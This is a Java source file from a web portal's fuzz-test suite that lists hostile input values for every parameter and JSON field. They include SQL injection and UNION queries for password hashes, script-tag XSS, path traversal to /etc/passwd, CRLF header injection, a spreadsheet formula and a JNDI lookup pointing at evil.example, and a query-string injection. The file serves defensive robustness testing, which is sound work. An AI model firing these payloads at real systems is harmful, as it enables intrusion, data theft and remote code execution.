package org.citydiplomacy.portal.hostile;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * The corpus of hostile values that the fuzz test sends in every parameter and every JSON field:
 * wrong types, huge and negative numbers, empty and 100,000-character strings, invalid UTF-8, NUL,
 * right-to-left and combining characters, emoji, SQL, HTML, JSON and path-traversal fragments, deep
 * nesting. Each value knows how it is written in a JSON body, in a URL, and (for text) what must read
 * back if the portal accepts it. No value names an existing record (no "1": a withdrawal of seed
 * record 1 would change what other tests read).
 */
final class HostileValues {

    /**
     * One hostile value.
     * @param name what it is, for failure messages
     * @param json the value as JSON text, put in place of a field
     * @param url the value percent-encoded for a query string or a path segment; null where it has none
     * @param text the text a JSON string value carries (to compare what reads back); null for other JSON
     */
    record Value(String name, String json, String url, String text) {

        @Override
        public String toString() {
            return name;
        }
    }

    static final String LONG = "a".repeat(100_000);

    private HostileValues() {
    }

    /** Every value, for JSON fields (all of them) and for parameters (those with a URL form). */
    static List<Value> all() {
        List<Value> values = new ArrayList<>();
        // Text a record may legitimately hold: accepted values must read back exactly.
        text(values, "right-to-left", "مرحبا بالعالم \u202Eevil\u202C שלום");
        text(values, "combining", "e\u0301\u0302\u0303 Z\u0351\u0352\u0353a\u0300lgo");
        text(values, "emoji", "👩🏽‍💻 🇯🇵 🏳️‍🌈 \uD83D\uDE00");
        text(values, "sql", "' OR '1'='1'; DROP TABLE agreement; --");
        text(values, "sql-union", "\" UNION SELECT password_hash FROM account --");
        text(values, "html", "<script>alert(1)</script><img src=x onerror=alert(2)>");
        text(values, "json-fragment", "{\"id\":5,\"version\":0}]}");
        text(values, "path-traversal", "../../../../etc/passwd");
        text(values, "encoded-traversal", "..%2F..%2Fetc%2Fpasswd");
        text(values, "crlf", "a\r\nSet-Cookie: evil=1\r\n");
        text(values, "formula", "=HYPERLINK(\"http://evil.example\",\"x\")");
        text(values, "format-string", "%s%s%n%x {0} ${jndi:ldap://evil.example/a} #{7*7}");
        text(values, "whitespace", " \t ");
        text(values, "empty", "");
        text(values, "zero-width", "\u200B\u200C\u200D\uFEFF");
        text(values, "replacement-char", "\uFFFD\uFFFD");
        text(values, "long-200", "x".repeat(200));
        text(values, "long-100000", LONG);
        text(values, "japanese", "東京都とローマ市の共同コミュニケ");
        // Text that cannot be stored: refused, never stored changed.
        raw(values, "nul", "\"x\\u0000y\"", "x%00y", null);
        raw(values, "lone-high-surrogate", "\"x\\ud800y\"", "x%ED%A0%80y", null);
        raw(values, "lone-low-surrogate", "\"\\udc00\"", "%ED%B0%80", null);
        raw(values, "invalid-utf8", null, "%FF%FE%FD", null);
        raw(values, "overlong-utf8", null, "%C0%AE%C0%AE%2F", null);
        raw(values, "truncated-utf8", null, "abc%E6%9D", null);
        // Wrong types.
        raw(values, "zero", "0", "0", null);
        raw(values, "negative", "-1", "-1", null);
        raw(values, "huge-int", "2147483648", "2147483648", null);
        raw(values, "huge-long", "9223372036854775808", "9223372036854775808", null);
        raw(values, "huge-number", "1e400", "1e400", null);
        raw(values, "fraction", "1.5", "1.5", null);
        raw(values, "negative-huge", "-99999999999999999999999", "-99999999999999999999999", null);
        raw(values, "true", "true", "true", null);
        raw(values, "null", "null", "null", null);
        raw(values, "empty-object", "{}", "%7B%7D", null);
        raw(values, "empty-array", "[]", "%5B%5D", null);
        raw(values, "array-of-text", "[\"a\",\"b\"]", "a,b", null);
        raw(values, "object", "{\"$gt\":\"\"}", "%7B%22%24gt%22%3A%22%22%7D", null);
        raw(values, "deep-array", "[".repeat(2_000) + "]".repeat(2_000), "%5B".repeat(500), null);
        raw(values, "deep-object", "{\"a\":".repeat(2_000) + "1" + "}".repeat(2_000), null, null);
        raw(values, "nan-text", "\"NaN\"", "NaN", "NaN");
        raw(values, "date-far-past", "\"0001-01-01\"", "0001-01-01", "0001-01-01");
        raw(values, "date-far-future", "\"9999-12-31\"", "9999-12-31", "9999-12-31");
        raw(values, "date-impossible", "\"2025-02-30\"", "2025-02-30", "2025-02-30");
        raw(values, "enum-lowercase", "\"draft\"", "draft", "draft");
        raw(values, "country-xx", "\"XX\"", "XX", "XX");
        raw(values, "slug-upper", "\"ROME\"", "ROME", "ROME");
        raw(values, "id-huge-text", "\"99999999999999999999\"", "99999999999999999999", "99999999999999999999");
        raw(values, "plus-number", "\"+5000000\"", "%2B5000000", "+5000000");
        raw(values, "query-injection", "\"a&size=100000&page=-1\"", "a%26size%3D100000%26page%3D-1", "a&size=100000&page=-1");
        return values;
    }

    private static void text(List<Value> values, String name, String text) {
        values.add(new Value(name, jsonString(text), URLEncoder.encode(text, StandardCharsets.UTF_8), text));
    }

    private static void raw(List<Value> values, String name, String json, String url, String text) {
        values.add(new Value(name, json, url, text));
    }

    static String jsonString(String text) {
        StringBuilder out = new StringBuilder(text.length() + 2).append('"');
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                    if (c < 0x20) {
                        out.append(String.format("\\u%04x", (int) c));
                    }
                    else {
                        out.append(c);
                    }
                }
            }
        }
        return out.append('"').toString();
    }
}
